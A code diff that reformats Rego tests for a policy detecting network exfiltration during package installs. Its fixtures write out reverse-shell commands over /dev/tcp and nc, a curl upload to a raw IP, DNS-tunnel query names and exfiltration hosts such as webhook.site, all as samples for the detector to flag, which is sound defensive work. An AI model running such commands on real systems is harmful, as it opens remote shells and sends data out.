@@ -17,7 +17,10 @@ _build(connections) := _found(_connecting("build-child", connections))
 
 _code(connections) := _found(_connecting("package-code", connections))
 
-_running(program, args) := _found([fixture.process("build-child", {"program": program, "execs": fixture.ran(program, args)})])
+_running(program, args) := _found([fixture.process(
+	"build-child",
+	{"program": program, "execs": fixture.ran(program, args)},
+)])
 
 test_quiet_installer if {
 	_found([]) == set()
@@ -88,7 +91,9 @@ test_build_connection if {
 test_raw_address if {
 	_build([fixture.connection("198.51.100.10", 443)]) == {"HIGH:NET_RAW_IP", "HIGH:NET_BUILD_CONNECT"}
 	_build([fixture.connection("2001:db8::10", 4444)]) == {
-		"CRITICAL:NET_RAW_IP", "HIGH:NET_SUSPICIOUS_PORT", "HIGH:NET_BUILD_CONNECT",
+		"CRITICAL:NET_RAW_IP",
+		"HIGH:NET_SUSPICIOUS_PORT",
+		"HIGH:NET_BUILD_CONNECT",
 	}
 	_build([fixture.datagram("sendto", "198.51.100.10", 9999)]) == {"CRITICAL:NET_RAW_IP", "HIGH:NET_BUILD_CONNECT"}
 	_build([fixture.connection("not an address", 443)]) == {"HIGH:NET_RAW_IP", "HIGH:NET_BUILD_CONNECT"}
@@ -96,7 +101,9 @@ test_raw_address if {
 
 test_suspicious_port if {
 	_build([fixture.connection("198.51.100.10", 8080)]) == {
-		"CRITICAL:NET_RAW_IP", "HIGH:NET_SUSPICIOUS_PORT", "HIGH:NET_BUILD_CONNECT",
+		"CRITICAL:NET_RAW_IP",
+		"HIGH:NET_SUSPICIOUS_PORT",
+		"HIGH:NET_BUILD_CONNECT",
 	}
 }
 
@@ -108,7 +115,9 @@ test_own_address if {
 
 test_foreign_resolver if {
 	_code([fixture.datagram("sendto", "198.51.100.53", 53)]) == {
-		"CRITICAL:NET_RAW_IP", "HIGH:NET_DNS_FOREIGN_RESOLVER", "HIGH:NET_NONPIP_PROCESS_CONNECT",
+		"CRITICAL:NET_RAW_IP",
+		"HIGH:NET_DNS_FOREIGN_RESOLVER",
+		"HIGH:NET_NONPIP_PROCESS_CONNECT",
 	}
 	"HIGH:NET_DNS_FOREIGN_RESOLVER" in _code([object.union(
 		fixture.connection("198.51.100.53", 443),
@@ -129,7 +138,9 @@ _named(host) := _code([object.union(fixture.connection("198.51.100.10", 443), {"
 
 test_hosts if {
 	_named("x.webhook.site") == {
-		"CRITICAL:NET_EXFIL_SERVICE", "HIGH:NET_UNEXPECTED_HOST", "HIGH:NET_NONPIP_PROCESS_CONNECT",
+		"CRITICAL:NET_EXFIL_SERVICE",
+		"HIGH:NET_UNEXPECTED_HOST",
+		"HIGH:NET_NONPIP_PROCESS_CONNECT",
 	}
 	"MEDIUM:NET_EXFIL_SERVICE" in _named("a.pages.dev")
 	"HIGH:NET_BLOCKCHAIN_C2" in _named("x.raw.icp0.io")
@@ -153,11 +164,15 @@ _queries(names) := _found([fixture.process("package-code", {"network": {"dnsLook
 ]}})])
 
 test_tunnel if {
-	_queries([sprintf("%s.%d.t.example.com.", [concat("", ["a" | some _ in numbers.range(1, 44)]), i]) | some i in [1, 2, 3]]) == {
-		"CRITICAL:NET_DNS_TUNNEL", "HIGH:NET_UNEXPECTED_HOST",
+	long := concat("", ["a" | some _ in numbers.range(1, 44)])
+	_queries([sprintf("%s.%d.t.example.com.", [long, i]) | some i in [1, 2, 3]]) == {
+		"CRITICAL:NET_DNS_TUNNEL",
+		"HIGH:NET_UNEXPECTED_HOST",
 	}
-	"CRITICAL:NET_DNS_TUNNEL" in _queries([sprintf("0123456789abcdef0123456789abcdef%d.t.example.com", [i]) | some i in [1, 2, 3]])
-	"CRITICAL:NET_DNS_TUNNEL" in _queries([sprintf("part%dabcdefghijklmnop.example.com", [i]) | some i in numbers.range(1, 12)])
+	hexadecimal := [sprintf("0123456789abcdef0123456789abcdef%d.t.example.com", [i]) | some i in [1, 2, 3]]
+	"CRITICAL:NET_DNS_TUNNEL" in _queries(hexadecimal)
+	many := [sprintf("part%dabcdefghijklmnop.example.com", [i]) | some i in numbers.range(1, 12)]
+	"CRITICAL:NET_DNS_TUNNEL" in _queries(many)
 	_queries(["d1234abcd.cloudfront.example", "localhost", ""]) == {"HIGH:NET_UNEXPECTED_HOST"}
 }
 
@@ -178,7 +193,10 @@ test_download_tools if {
 test_reverse_shell if {
 	_found([fixture.process("package-code", {
 		"network": {"connections": [fixture.connection("10.0.0.66", 4000)]},
-		"syscallEvents": [{"syscall": "dup2", "detail": "", "args": [7, 0]}, {"syscall": "dup2", "detail": "", "args": [4, 1]}],
+		"syscallEvents": [
+			{"syscall": "dup2", "detail": "", "args": [7, 0]},
+			{"syscall": "dup2", "detail": "", "args": [4, 1]},
+		],
 	})]) == {"CRITICAL:NET_REVERSE_SHELL", "HIGH:NET_NONPIP_PROCESS_CONNECT"}
 	_running("/bin/bash", ["-c", "bash -i >& /dev/tcp/198.51.100.66/4444 0>&1"]) == {"CRITICAL:NET_REVERSE_SHELL"}
 	"CRITICAL:NET_REVERSE_SHELL" in _running("/bin/nc", ["-e", "/bin/sh", "198.51.100.66", "4444"])
@@ -187,7 +205,8 @@ test_reverse_shell if {
 
 # A pipe in place of the standard streams is how every program is started.
 test_quiet_pipes if {
-	_found([fixture.process("build-child", {"syscallEvents": [{"syscall": "dup2", "detail": "", "args": [5, 1]}]})]) == set()
+	pipe := {"syscall": "dup2", "detail": "", "args": [5, 1]}
+	_found([fixture.process("build-child", {"syscallEvents": [pipe]})]) == set()
 }
 
 test_listeners if {
@@ -200,7 +219,8 @@ test_raw_sockets if {
 		{"family": "AF_PACKET", "type": "SOCK_DGRAM", "protocol": 3, "fd": 3},
 		{"family": "AF_INET", "type": "SOCK_RAW", "protocol": 1, "fd": 4},
 	]}})]) == {"HIGH:NET_RAW_SOCKET"}
-	_found([fixture.process("package-code", {"network": {"sockets": [{"family": "AF_VSOCK", "type": "SOCK_STREAM", "protocol": 0, "fd": 3}]}})]) == set()
+	machine := {"family": "AF_VSOCK", "type": "SOCK_STREAM", "protocol": 0, "fd": 3}
+	_found([fixture.process("package-code", {"network": {"sockets": [machine]}})]) == set()
 }
 
 test_tor if {
@@ -216,7 +236,8 @@ test_kubernetes if {
 test_lateral_scan if {
 	found := _code([fixture.connection(sprintf("10.0.0.%d", [i]), 22) | some i in numbers.range(1, 6)])
 	"HIGH:NET_LATERAL_SCAN" in found
-	not "HIGH:NET_LATERAL_SCAN" in _code([fixture.connection(sprintf("10.0.0.%d", [i]), 22) | some i in numbers.range(1, 4)])
+	few := [fixture.connection(sprintf("10.0.0.%d", [i]), 22) | some i in numbers.range(1, 4)]
+	not "HIGH:NET_LATERAL_SCAN" in _code(few)
 }
 
 test_clear_text if {
@@ -229,11 +250,13 @@ test_not_evaluated if {
 		"NET_UPLOAD_ASYMMETRY: the number of bytes sent and received is not in the evidence",
 		"NET_SNI_ADDR_MISMATCH: the answers of the name service are not in the evidence",
 	}
-	nameless := network_exfiltration.not_evaluated with input as fixture.install(_connecting("build-child", [fixture.connection("198.51.100.10", 443)]))
+	connecting := _connecting("build-child", [fixture.connection("198.51.100.10", 443)])
+	nameless := network_exfiltration.not_evaluated with input as fixture.install(connecting)
 	"NET_UNEXPECTED_HOST: the evidence names no host, in connections or in name queries" in nameless
 	blind := network_exfiltration.not_evaluated with input as {"processes": [], "coverage": {"trapped": ["execve"]}}
 	"NET_LISTENER: not observed: bind, listen" in blind
-	unknown := network_exfiltration.not_evaluated with input as {"processes": [{"network": {"dnsLookups": [{"serverPort": 53}]}}]}
+	asking := {"processes": [{"network": {"dnsLookups": [{"serverPort": 53}]}}]}
+	unknown := network_exfiltration.not_evaluated with input as asking
 	"NET_LISTENER: the evidence does not say which system calls were observed" in unknown
 	"NET_DNS_TUNNEL: the evidence names no host, in connections or in name queries" in unknown
 }
@@ -259,10 +282,19 @@ test_hostile_text if {
 # Evidence of other tools: no role, no attempts of exec.
 test_foreign_evidence if {
 	processes := [
-		{"processid": 10, "parentpid": 1, "program": "/usr/bin/python3", "cmdline": "python3 -m pip install demo", "network": {"connections": [fixture.connection("198.51.100.10", 443)]}},
+		{
+			"processid": 10,
+			"parentpid": 1,
+			"program": "/usr/bin/python3",
+			"cmdline": "python3 -m pip install demo",
+			"network": {"connections": [fixture.connection("198.51.100.10", 443)]},
+		},
 		{"processid": 11, "parentpid": 10, "program": "/usr/bin/curl", "cmdline": "curl -T x https://198.51.100.3/"},
 	]
 	fixture.findings(network_exfiltration.deny) == {"CRITICAL:NET_EXFIL_TOOL"} with input as {"processes": processes}
 	other := [object.union(processes[0], {"cmdline": "make"})]
-	fixture.findings(network_exfiltration.deny) == {"HIGH:NET_RAW_IP", "HIGH:NET_NONPIP_PROCESS_CONNECT"} with input as {"processes": other}
+	fixture.findings(network_exfiltration.deny) == {
+		"HIGH:NET_RAW_IP",
+		"HIGH:NET_NONPIP_PROCESS_CONNECT",
+	} with input as {"processes": other}
 }
